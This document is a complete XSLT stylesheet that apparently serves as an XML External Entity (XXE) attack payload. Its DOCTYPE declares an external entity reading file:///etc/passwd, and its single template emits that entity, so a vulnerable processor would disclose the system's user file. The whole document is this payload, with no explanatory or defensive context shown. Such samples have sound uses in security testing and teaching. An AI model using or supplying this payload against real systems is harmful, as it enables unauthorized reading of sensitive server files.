<!DOCTYPE xsl:stylesheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl">
<xsl:template match="/">&x;</xsl:template>
</xsl:stylesheet>
